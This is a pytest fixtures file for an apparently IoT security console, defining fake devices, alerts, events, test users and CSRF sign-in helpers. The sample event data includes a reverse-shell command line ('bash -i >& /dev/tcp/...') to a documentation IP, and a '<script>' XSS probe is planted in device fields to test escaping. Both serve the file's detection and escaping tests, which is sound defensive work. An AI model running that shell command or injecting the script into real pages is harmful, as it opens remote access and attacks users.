"""Fixtures for the console tests: fixture fleet data, a user store, and a signed-in client."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
from starlette.applications import Starlette

from iotsec.console import (
    Alert,
    ConsoleSettings,
    DeviceDetail,
    DeviceSummary,
    FeedStatus,
    GroupRules,
    MemoryBackend,
    QueryColumn,
    QueryTable,
    RawEvent,
    Recommendation,
    SqliteUserStore,
    console_routes,
)
from iotsec.console.errors import QueryFailed

NOW = datetime(2025, 3, 10, 12, 0, 0, tzinfo=UTC)
OWNER_KEY = "b3duZXIta2V5LWZvci10ZXN0cw=="
PASSWORDS = {"alice": "alice-admin-pass", "anna": "anna-analyst-pass", "victor": "victor-view-pass"}
ROLES = {"alice": "admin", "anna": "analyst", "victor": "viewer"}
XSS = "<script>alert(1)</script>"
BASE = "/console"


def fleet_devices() -> list[DeviceDetail]:
    return [
        DeviceDetail(
            DeviceSummary(
                "cam-1",
                "enabled",
                connection_state="Connected",
                group="cameras",
                last_seen=NOW - timedelta(minutes=3),
                risk_score=82.0,
                risk_level="High",
            ),
            twin={
                "deviceId": "cam-1",
                "tags": {"SecurityGroup": "cameras", "note": XSS},
                "properties": {"desired": {}, "reported": {"fw": "1.2"}},
            },
            first_seen=NOW - timedelta(days=30),
            risk_explanation=("reverse shell seen (High)", "port 23 open"),
        ),
        DeviceDetail(
            DeviceSummary("gw-2", "enabled", group="gateways", risk_score=12.0, risk_level="Low"),
        ),
        DeviceDetail(DeviceSummary(f"dev-{XSS}", "disabled")),
    ]


def fleet_alerts() -> list[Alert]:
    return [
        Alert(
            alert_id="a-1",
            time=NOW - timedelta(hours=2),
            name="IoT_ReverseShell",
            display_name="Reverse shell detected",
            severity="High",
            status="Active",
            device_id="cam-1",
            description=f"bash -i connected to 203.0.113.9:4444 {XSS}",
            rule="IoT_ReverseShell",
            provider="IoTSecurity",
            tactics=("Execution",),
            techniques=("T1059",),
            remediation=("Isolate the device.", "Rotate its credentials."),
            extended_properties={"Remote Address": "203.0.113.9", "Note": XSS},
            evidence=("e1:0", "oplog:0:9"),
        ),
        Alert(
            alert_id="a-2",
            time=NOW - timedelta(days=1),
            name="IoT_FailedLogin",
            display_name="Failed local login",
            severity="Low",
            status="Dismissed",
            device_id="gw-2",
        ),
    ]


def fleet_events() -> list[RawEvent]:
    return [
        RawEvent(
            "e1:0",
            NOW - timedelta(hours=2, minutes=1),
            "cam-1",
            "ProcessCreate",
            "Triggered",
            "Security",
            details={
                "Executable": "/bin/bash",
                "CommandLine": "bash -i >& /dev/tcp/203.0.113.9/4444",
            },
        ),
        RawEvent(
            "e2:0", NOW - timedelta(hours=5), "cam-1", "ListeningPorts", "Periodic", "Security"
        ),
    ]


def fleet_recommendations() -> list[Recommendation]:
    return [
        Recommendation(
            "r-1",
            NOW - timedelta(hours=1),
            "cam-1",
            "IoT_OpenPorts",
            "Open ports on device",
            "Medium",
            "Active",
            description="Port 23 (telnet) listens on all interfaces.",
            additional_data={"Ports": [23]},
        )
    ]


def fake_query(text: str, max_rows: int) -> QueryTable:
    if "bad" in text:
        raise QueryFailed(
            "unknown table 'bad'\n  bad | take 1\n  ^^^", status=400, line=1, column=1
        )
    return QueryTable(
        columns=(QueryColumn("TimeGenerated", "datetime"), QueryColumn("count_", "long")),
        rows=(("2025-03-10T10:00:00Z", 3), ("2025-03-10T11:00:00Z", 5)),
        elapsed_ms=1.5,
    )


@pytest.fixture
def backend() -> MemoryBackend:
    return MemoryBackend(
        devices=fleet_devices(),
        alerts=fleet_alerts(),
        recommendations=fleet_recommendations(),
        events=fleet_events(),
        groups=[GroupRules("cameras", {"allowlistRules": [{"ruleType": "ProcessNotAllowed"}]})],
        feeds=[FeedStatus("blocklist", "ip-list", "/etc/iotsec/bad-ips.txt", indicators=12)],
        run_query=fake_query,
        now=lambda: NOW,
    )


@pytest.fixture
def users(tmp_path: Path) -> SqliteUserStore:
    store = SqliteUserStore(tmp_path / "users.db", cost=2**10)
    for name, password in PASSWORDS.items():
        store.add(name, ROLES[name], password)
    return store


@pytest.fixture
def settings() -> ConsoleSettings:
    return ConsoleSettings(secret=b"s" * 32, owner_key=OWNER_KEY, hub_name="test-hub")


@pytest.fixture
def app(backend: MemoryBackend, users: SqliteUserStore, settings: ConsoleSettings) -> Starlette:
    return Starlette(routes=console_routes(backend, users, settings, clock=NOW.timestamp))


def open_client(app: Starlette) -> httpx.AsyncClient:
    """An HTTPS test client for ``app`` that keeps cookies and does not follow redirects."""
    transport = httpx.ASGITransport(app=app, client=("192.0.2.10", 40000))
    return httpx.AsyncClient(transport=transport, base_url="https://testserver")


@pytest.fixture
async def client(app: Starlette) -> AsyncIterator[httpx.AsyncClient]:
    async with open_client(app) as opened:
        yield opened


_CSRF = re.compile(r'name="csrf" value="([^"]+)"')


def csrf_of(html: str) -> str:
    """The CSRF token in a page's forms."""
    found = _CSRF.search(html)
    assert found is not None, "the page has no form with a CSRF token"
    return found.group(1)


async def login_token(client: httpx.AsyncClient) -> str:
    """The CSRF token of the sign-in form (starting an anonymous session)."""
    return csrf_of((await client.get(f"{BASE}/login")).text)


async def sign_in(client: httpx.AsyncClient, username: str, password: str | None = None) -> str:
    """Sign in through the form; returns the CSRF token of the new session."""
    token = await login_token(client)
    response = await client.post(
        f"{BASE}/login",
        data={"csrf": token, "username": username, "password": password or PASSWORDS[username]},
    )
    assert response.status_code == 303, response.text
    return csrf_of((await client.get(f"{BASE}/")).text)
